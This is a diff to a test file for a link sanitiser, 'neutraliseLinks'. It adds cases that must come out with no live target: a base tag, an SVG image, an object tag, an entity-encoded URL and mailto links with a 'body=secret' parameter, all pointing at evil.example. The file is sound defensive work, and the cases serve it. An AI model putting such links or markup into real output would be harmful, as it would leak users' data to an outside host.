@@ -56,6 +56,11 @@ describe('neutraliseLinks: every link and image form off the allow-list', () => 
     ['javascript: split by a tab', '[a](java\tscript:alert(1))'],
     ['mailto: link', '[a](mailto:x@evil.example?body=secret)'],
     ['relative link', '[a](/api/steal?q=x)'],
+    ['entity-encoded bare URL', 'see https&colon;&sol;&sol;evil.example/x?q=1'],
+    ['base tag', '<base href="https://evil.example/">[x](/steal)'],
+    ['SVG image', '<svg><image href="https://evil.example/a.png"/></svg>'],
+    ['object data', '<object data="https://evil.example/a"></object>'],
+    ['bare mailto: with a body', 'mailto:someone@evil.example?body=secret'],
   ];
 
   it.each(evil)('%s: no live target is left', (_name, answer) => {
